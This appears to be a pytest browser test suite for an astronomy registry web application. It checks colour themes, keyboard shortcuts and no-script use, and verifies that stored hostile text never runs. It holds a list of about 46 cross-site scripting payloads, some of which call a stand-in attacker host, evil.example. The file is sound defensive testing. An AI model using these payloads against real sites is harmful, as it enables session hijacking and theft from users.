"""The pages in a real browser, over a datacenter without an engine: colours, narrow screens, no script, hostility."""

from __future__ import annotations

import html
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert

from registry import access, clock, create_app
from registry.records import founding, store
from registry.records.founding import Founding
from registry.schema import upgrade
from registry.site import open_site
from registry.tables import harvest_problems, harvest_runs, health, job_parameters, jobs, quarantine, sources, watches
from tests.journeys import chromium
from tests.oai.serving import loopback, serving

pytestmark = pytest.mark.browser

PASSWORD = "correct horse battery"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '"><img src=x onerror=alert(1)>',
    "<img src=//evil.example/pixel>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "' onfocus=alert(1) autofocus='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://north.example/",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]
SERVICE = """<ri:Resource xmlns:ri="http://www.ivoa.net/xml/RegistryInterface/v1.0"
 xmlns:vr="http://www.ivoa.net/xml/VOResource/v1.0" xmlns:vs="http://www.ivoa.net/xml/VODataService/v1.1"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="vs:CatalogService" created="2020-01-01T00:00:00Z"
 updated="2020-01-01T00:00:00Z" status="active"><title>{text}</title><shortName>{text}</shortName>
<identifier>ivo://south.example/service{number}</identifier><altIdentifier>{text}</altIdentifier><curation>
<publisher ivo-id="{text}">{text}</publisher><creator><name>{text}</name><logo>{text}</logo></creator>
<contributor>{text}</contributor><date role="{text}">{text}</date><version>{text}</version><contact><name>{text}</name>
<address>{text}</address><email>{text}</email><telephone>{text}</telephone></contact></curation>
<content><subject>{text}</subject><description>{text}</description><source format="{text}">{text}</source>
<referenceURL>{text}</referenceURL><type>{text}</type><contentLevel>{text}</contentLevel><relationship>
<relationshipType>{text}</relationshipType><relatedResource ivo-id="{text}">{text}</relatedResource></relationship></content>
<rights rightsURI="{text}">{text}</rights><capability standardID="{text}"><description>{text}</description>
<interface xsi:type="vs:ParamHTTP" role="{text}" version="{text}"><accessURL use="{text}">{text}</accessURL>
<mirrorURL>{text}</mirrorURL><securityMethod standardID="{text}"/><queryType>{text}</queryType><resultType>{text}</resultType>
<param><name>{text}</name><description>{text}</description><unit>{text}</unit><ucd>{text}</ucd></param></interface></capability>
<tableset><schema><name>{text}</name><title>{text}</title><description>{text}</description><table><name>{text}</name>
<description>{text}</description><column><name>{text}</name><description>{text}</description><unit>{text}</unit><ucd>{text}</ucd>
</column></table></schema></tableset></ri:Resource>"""


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A served datacenter whose shelf holds hostile records too; administrator ada."""
    bound = loopback()
    url = f"http://127.0.0.1:{bound.getsockname()[1]}/"
    folder: Path = tmp_path_factory.mktemp("pages") / "instance"
    site = open_site(
        folder,
        authority="north.example",
        title="North",
        base_url=url,
        admin_email="ops@north.example",
        instance_name="north",
    )
    upgrade(site.database)
    founding.found(site, Founding("north.example", "North", url, email="ops@north.example"), "test")
    with site.database.write() as connection:
        access.create_account(connection, "ada", PASSWORD, "administrator")
        for number, payload in enumerate(PAYLOADS):
            text = html.escape(payload, quote=True).replace("\t", "&#9;")
            xml = SERVICE.replace("{number}", str(number)).replace("{text}", text)
            put = store.put(connection, site.schemas, xml.encode(), origin=store.FOREIGN_FILE, who=payload, why=payload)
            assert put.record, put.reason
            access.audit(connection, payload, payload, payload, payload)
            _say_everywhere(connection, number, payload)
    with serving(create_app(site), bound):
        yield url
    site.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium.chromium() as running:
        yield running


def test_a_choice_of_colours_outlives_the_system(base: str, browser: Any) -> None:
    with chromium.page(browser, base, color_scheme="light") as (page, seen):
        page.goto("")
        page.get_by_role("button", name="dark").click()
        page.goto("records")
        assert brightness(page.evaluate("getComputedStyle(document.body).backgroundColor")) < 60
        page.get_by_role("button", name="auto").click()
        assert brightness(page.evaluate("getComputedStyle(document.body).backgroundColor")) > 200
    assert seen.wrong == []


def test_the_first_tab_stop_leads_past_the_menu(base: str, browser: Any) -> None:
    with chromium.page(browser, base) as (page, _seen):
        page.goto("")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"


def test_keys_search_and_show_themselves_and_times_say_how_long_ago(base: str, browser: Any) -> None:
    with chromium.page(browser, base) as (page, seen):
        chromium.log_in(page, "ada", PASSWORD)
        page.goto("admin/jobs")
        page.keyboard.press("/")
        assert page.evaluate("document.activeElement.id") == "q"
        page.keyboard.type("a?/b")
        assert page.locator("#q").input_value() == "a?/b" and not page.locator("#keys").is_visible()
        page.locator("h1").click()
        page.keyboard.press("?")
        assert page.locator("#keys").is_visible()
        page.keyboard.press("Escape")
        assert not page.locator("#keys").is_visible()
        stamp = page.locator("main time").first
        stamp.hover()
        assert "ago" in stamp.get_attribute("title") or "now" in stamp.get_attribute("title")
        page.goto("admin/settings")
        page.keyboard.press("/")
        page.wait_for_url("**/records")
    assert seen.wrong == []


def test_everything_is_written_without_a_script(base: str, browser: Any) -> None:
    with chromium.page(browser, base, java_script_enabled=False) as (page, _seen):
        chromium.log_in(page, "ada", PASSWORD)
        page.goto("admin/sources")
        page.get_by_label("Address of its OAI-PMH interface").fill("http://127.0.0.1:1/oai")
        page.get_by_role("button", name="Ask who it is").click()
        assert page.get_by_role("alert").inner_text()
        assert page.get_by_label("Address of its OAI-PMH interface").input_value() == "http://127.0.0.1:1/oai"
        page.goto("admin/records/north.example/organisation")
        page.get_by_text("Delete this record").click()
        deleting = page.locator("details", has_text="Delete this record")
        for field, words in (("why", "closed"), ("confirm", "ivo://north.example/organisation")):
            deleting.locator(f"[name={field}]").fill(words)
        page.get_by_role("button", name="Delete ivo://").click()
        assert "deleted" in page.get_by_role("status").inner_text()
        page.get_by_role("button", name="Log out").click()
        page.goto("admin/")
        assert page.url.endswith("admin/login?next=/admin/")


LISTS = ("records", "records?q=alert", "admin/records", "admin/audit", "admin/", "admin/problems", "admin/sources",
         "admin/quarantine", "admin/jobs", "admin/accounts", "admin/settings", "find", "applications", "standards",
         "admin/runs", "admin/tokens", "admin/problems?sort=-words&limit=500", "admin/jobs?sort=run_id",
         "admin/quarantine?sort=reason", "admin/applications/images?state=any")


def _say_everywhere(connection: Any, number: int, payload: str) -> None:
    """Let sources, runs, quarantine, jobs and looks at services say it too."""
    now, ivoid = clock.stamp(), f"ivo://south.example/service{number}"
    connection.execute(insert(sources).values(
        id=number, name=f"s{number}", url=f"{payload}#{number}", registry=payload, interval=3600, next_run=now, created=now,
        managed_authorities=[payload], owner=payload, health="failing"))
    connection.execute(insert(harvest_runs).values(
        id=number, source_id=number, state="failed", started=now, ended=now, message=payload, who=payload,
        faults=[[payload, 1, payload]]))
    connection.execute(insert(quarantine).values(
        source_id=number, run_id=number, ivoid=payload, digest=str(number), reason=payload, raw=payload.encode(), at=now,
        state="open"))
    connection.execute(insert(harvest_problems).values(run_id=number, ivoid=payload, reason=payload))
    connection.execute(insert(health).values(
        key=ivoid, url=payload, ivoid=ivoid, asked="head", state="down", since=now, message=payload, said={"notes": [payload]}))
    connection.execute(insert(watches).values(key=ivoid, ivoid=ivoid, url=payload, due=now, problems=[payload], fault=payload))
    connection.execute(insert(jobs).values(
        id=f"job{number:017d}", owner="ada", phase="ERROR", application=payload, application_version=payload, image=payload,
        created=now, ended=now, execution_duration=60, destruction="2099-01-01T00:00:00.000Z", error=payload, message=payload,
        run_id=payload))
    connection.execute(insert(job_parameters).values(job_id=f"job{number:017d}", name=payload, value=payload))


WHERE = ("records/south.example/service", "admin/records/south.example/service", "admin/sources/s", "admin/runs/",
         "admin/jobs/job")


@pytest.mark.parametrize("whole", [False, pytest.param(True, marks=pytest.mark.soak)], ids=["each once", "each everywhere"])
def test_strangers_text_runs_nowhere(base: str, browser: Any, whole: bool) -> None:
    """No dialog, no report of the policy, no request to elsewhere, no link that a script hides in."""
    assert len(PAYLOADS) >= 40
    with chromium.page(browser, base) as (page, seen):
        chromium.log_in(page, "ada", PASSWORD)
        for path in LISTS:
            shown(page, path)
        for number, payload in enumerate(PAYLOADS):
            places = WHERE if whole else (WHERE[number % 2], WHERE[2 + number % 3])
            for path in places:
                text = shown(page, f"{path}{number:017d}" if path.endswith("job") else f"{path}{number}")
                assert "records" not in path or payload.split()[0] in text, (path, payload)
            assert seen.wrong == [], payload
    assert seen.wrong == []


def shown(page: Any, path: str) -> str:
    """Open a page, every part of it, and give its text; its links lead to web addresses only."""
    answer = page.goto(path)
    assert answer.status < 500 or answer.status == 503, path
    assert page.locator("main").count() == 1, (path, answer.status, page.content()[:500])
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
    hrefs = page.eval_on_selector_all("main [href], main [src], main [action]",
                                      "all => all.map(one => one.href || one.src"
                                      " || new URL(one.getAttribute('action'), location).href)")  # a field may be called action
    assert all(str(href).split(":")[0] in ("http", "https") for href in hrefs), (path, hrefs)
    return str(page.inner_text("main"))


def brightness(colour: str) -> float:
    """0 (black) to 255 (white) of a computed colour."""
    red, green, blue = (float(part) for part in colour[colour.index("(") + 1 : -1].split(",")[:3])
    return 0.3 * red + 0.59 * green + 0.11 * blue
